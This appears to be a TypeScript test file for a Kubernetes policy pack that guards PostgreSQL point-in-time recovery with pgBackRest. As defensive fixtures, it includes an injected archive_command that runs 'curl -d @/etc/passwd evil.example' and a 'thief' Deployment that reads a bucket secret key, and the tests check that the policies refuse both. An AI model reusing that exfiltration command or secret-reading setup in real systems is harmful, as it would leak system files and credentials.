import * as assert from "assert";
import { planFromValues } from "../../cli/plan";
import type { Plan } from "../../cli/plan/runner";
import { safeServerSettings } from "../../policies/serverShape";
import { networkIsolation } from "../../policies/network";
import { PGBACKREST_COMMAND } from "../../policies/standard/securitySettings";
import { HANZO_SQL_IMAGE, archiveCommand, restoreCommand } from "../../render/pitr";
import { load, VALID } from "../support/config";
import { TOKEN_ENV } from "../support/plan";
import { TYPE, add, find, gateLines, inputs, mutable, violations } from "../support/policy";
import { credentialsConfined } from "../../policies/credentials";

/** Stacks with point-in-time recovery on (issue 23): Spaces, an endpoint of your own with a private CA, an adopted server, standbys. */
const PITR = { environment: "prod", clusterName: "hanzo-k8s", services: ["iam", "cloud"], image: HANZO_SQL_IMAGE, pitrEnabled: true };
const CA = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
const STACKS: Record<string, [Record<string, unknown>, string[]]> = {
    spaces: [PITR, []],
    minio: [
        {
            ...PITR,
            backupEndpoint: "https://minio.minio.svc:9000",
            backupAccessKeyId: "k",
            backupSecretAccessKey: "s",
            pitrEndpointCa: CA,
        },
        ["hanzo-sql:backupAccessKeyId", "hanzo-sql:backupSecretAccessKey"],
    ],
    adopted: [{ ...PITR, adopt: true, adminPassword: "the first admin password" }, ["hanzo-sql:adminPassword"]],
    // Every standby's pod runs the sidecar too; the backups copy their files from a standby (docs/pitr.md).
    standbys: [{ ...PITR, standbys: 2, synchronousStandbys: 1 }, []],
    // A new stack restored from hanzo-k8s's archive (pitrBootstrapFrom): its server pod's restore step.
    bootstrapped: [
        {
            ...PITR,
            pitrBootstrapFrom: {
                bucket: "hanzo-k8s-postgres-backups",
                path: "/postgres-pitr",
                time: "2026-12-05 02:30:00+00",
                restored: { roles: ["hanzo_backup", "hanzo_monitor", "iam_user"], databases: ["iam"] },
            },
        },
        [],
    ],
};

async function planOfStack(stack: string, preview = false): Promise<Plan> {
    const [values, secrets] = STACKS[stack];
    return mutable((await planFromValues(`pitr-${stack}`, values, secrets, TOKEN_ENV, preview)).engine);
}

describe("the policy pack with point-in-time recovery on", function () {
    this.timeout(300_000);
    for (const stack of Object.keys(STACKS)) {
        for (const preview of [false, true]) {
            it(`passes the ${stack} stack with zero diagnostics, ${preview ? "as a first preview" : "as an update"}`, async () => {
                assert.deepStrictEqual(await gateLines(await planOfStack(stack, preview)), [
                    `pitr-${stack}: 0 mandatory and 0 advisory violations of 19 policies`,
                ]);
            });
        }
    }

    it("accepts exactly the archive and restore commands render/pitr.ts renders", () => {
        const spec = load({ ...VALID, image: HANZO_SQL_IMAGE, pitrEnabled: true }).instance.archive!;
        assert.strictEqual(archiveCommand(spec), `${PGBACKREST_COMMAND} archive-push %p`);
        assert.strictEqual(restoreCommand(spec), `${PGBACKREST_COMMAND} archive-get %f "%p"`);
    });

    it("safe-server-settings: refuses any other archive_command or restore_command, and an archive_library", async () => {
        const plan = await planOfStack("spaces");
        const config = inputs(find(plan, TYPE.configMap, "postgres-config"));
        config.data["postgresql.conf"] = config.data["postgresql.conf"]
            .replace(
                /^archive_command = .*$/m,
                "archive_command = 'pgbackrest --stanza=db archive-push %p; curl -d @/etc/passwd evil.example'",
            )
            .replace(/^restore_command = .*$/m, "restore_command = 'cp /mnt/wal/%f \"%p\"'")
            .concat("archive_library = 'basic_archive'\n");
        assert.deepStrictEqual(await violations(safeServerSettings, plan), [
            `safe-server-settings: hanzo-sql-postgres-config (kubernetes:core/v1:ConfigMap): ConfigMap "hanzo/postgres-config" postgresql.conf sets archive_command = 'pgbackrest --stanza=db archive-push %p; curl -d @/etc/passwd evil.example': it runs a shell command as the server's OS user for every WAL segment; the standard archives with '${PGBACKREST_COMMAND} archive-push %p' only (pitrEnabled).`,
            `safe-server-settings: hanzo-sql-postgres-config (kubernetes:core/v1:ConfigMap): ConfigMap "hanzo/postgres-config" postgresql.conf sets restore_command = 'cp /mnt/wal/%f "%p"': it runs a shell command as the server's OS user in recovery; the standard restores with '${PGBACKREST_COMMAND} archive-get %f "%p"' only (pitrEnabled).`,
            `safe-server-settings: hanzo-sql-postgres-config (kubernetes:core/v1:ConfigMap): ConfigMap "hanzo/postgres-config" postgresql.conf sets archive_library = 'basic_archive': it loads a library into the archiver process; the standard archives with pgBackRest's archive_command.`,
        ]);
    });

    it("network-isolation: admits pgBackRest's port only from the base backup pods, by their labels", async () => {
        const plan = await planOfStack("spaces");
        const np = inputs(find(plan, TYPE.networkPolicy, "postgres-pgbackrest"));
        const rule = np.spec.ingress[0];
        const where =
            'network-isolation: hanzo-sql-archive-server-ingress (kubernetes:networking.k8s.io/v1:NetworkPolicy): NetworkPolicy "hanzo/postgres-pgbackrest"';
        const cases: [unknown, string[]][] = [
            [rule.from, []],
            [
                [{ podSelector: {} }],
                [`${where} admits pgBackRest's port 8432 from more than the base backup pods; admit them alone, by their labels.`],
            ],
            [
                [{ podSelector: { matchLabels: { "app.kubernetes.io/name": "postgres-backup" } } }],
                [
                    `${where} admits pgBackRest's port 8432 from CronJob "hanzo/postgres-backup"; only the postgres-pitr-full and postgres-pitr-diff CronJobs may reach it.`,
                ],
            ],
            [
                [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "hanzo" } } }],
                [`${where} admits pgBackRest's port 8432 from more than the base backup pods; admit them alone, by their labels.`],
            ],
            [
                [{ podSelector: { matchLabels: { app: "nobody" } } }],
                [`${where} admits pgBackRest's port 8432 from pods no workload of the stack runs; select the base backup pods.`],
            ],
        ];
        for (const [from, expected] of cases) {
            rule.from = from;
            assert.deepStrictEqual(await violations(networkIsolation, plan), expected, JSON.stringify(from));
        }
    });

    it("credentials-confined: the archive's Secrets only for their readers (bucket key: server and base backups; TLS keys: each side)", async () => {
        const plan = await planOfStack("spaces");
        // The dump CronJob mounting the client's TLS key, and a Deployment reading the archive's bucket key.
        const dump = inputs(find(plan, TYPE.cronJob, "postgres-backup")).spec.jobTemplate.spec.template.spec;
        dump.volumes.push({ name: "pgbackrest-tls", secret: { secretName: "postgres-pgbackrest-client-tls" } });
        add(plan, TYPE.deployment, "thief", {
            metadata: { name: "thief", namespace: "hanzo" },
            spec: {
                template: {
                    metadata: { labels: { app: "thief" } },
                    spec: {
                        containers: [
                            {
                                name: "thief",
                                image: "busybox:1.36",
                                env: [
                                    {
                                        name: "K",
                                        valueFrom: { secretKeyRef: { name: "postgres-pitr-credentials", key: "AWS_SECRET_ACCESS_KEY" } },
                                    },
                                ],
                            },
                        ],
                    },
                },
            },
        });
        assert.deepStrictEqual(await violations(credentialsConfined, plan), [
            `credentials-confined: hanzo-sql-backups-cronjob (kubernetes:batch/v1:CronJob): CronJob "hanzo/postgres-backup" reads the archive's Secret "postgres-pgbackrest-client-tls" (volume pgbackrest-tls); only the base backup CronJobs may.`,
            `credentials-confined: thief (kubernetes:apps/v1:Deployment): Deployment "hanzo/thief" container "thief" reads the archive's Secret "postgres-pitr-credentials" (env K); only the server StatefulSet and the base backup CronJobs may.`,
        ]);
    });

    it("credentials-confined: the drill's pitr-drill container reads the bucket key from the backup Secret; the archive's own is refused to it", async () => {
        const plan = await planOfStack("spaces");
        const pod = inputs(find(plan, TYPE.cronJob, "postgres-restore-drill")).spec.jobTemplate.spec.template.spec;
        const pitrDrill = pod.initContainers.find((c: { name: string }) => c.name === "pitr-drill");
        assert.deepStrictEqual(await violations(credentialsConfined, plan), []);
        for (const e of pitrDrill.env.filter((x: { name: string }) => x.name.startsWith("PGBACKREST_REPO1_S3_KEY"))) {
            e.valueFrom.secretKeyRef.name = "postgres-pitr-credentials";
        }
        const where = `credentials-confined: hanzo-sql-backups-drill (kubernetes:batch/v1:CronJob): CronJob "hanzo/postgres-restore-drill" container "pitr-drill"`;
        assert.deepStrictEqual(
            await violations(credentialsConfined, plan),
            ["PGBACKREST_REPO1_S3_KEY", "PGBACKREST_REPO1_S3_KEY_SECRET"].map(
                (env) =>
                    `${where} reads the archive's Secret "postgres-pitr-credentials" (env ${env}); only the server StatefulSet and the base backup CronJobs may.`,
            ),
        );
    });

    it("credentials-confined: the restore step reads the bucket key from the archive's Secret; the backup Secret (the backup role's password) is refused to it", async () => {
        const plan = await planOfStack("bootstrapped");
        const pod = inputs(find(plan, TYPE.statefulSet, "postgres")).spec.template.spec;
        const step = pod.initContainers.find((c: { name: string }) => c.name === "pitr-bootstrap");
        assert.deepStrictEqual(await violations(credentialsConfined, plan), []);
        for (const e of step.env.filter((x: { name: string }) => x.name.startsWith("PGBACKREST_REPO1_S3_KEY"))) {
            e.valueFrom.secretKeyRef.name = "postgres-backup-credentials";
        }
        const where = `credentials-confined: hanzo-sql-postgres-statefulset (kubernetes:apps/v1:StatefulSet): StatefulSet "hanzo/postgres" container "pitr-bootstrap"`;
        assert.deepStrictEqual(
            await violations(credentialsConfined, plan),
            ["PGBACKREST_REPO1_S3_KEY", "PGBACKREST_REPO1_S3_KEY_SECRET"].map(
                (env) =>
                    `${where} reads the backup role's Secret "postgres-backup-credentials" (env ${env}); only the program's postgres-backup and postgres-restore-drill CronJobs may, give this workload a role of its own.`,
            ),
        );
    });
});
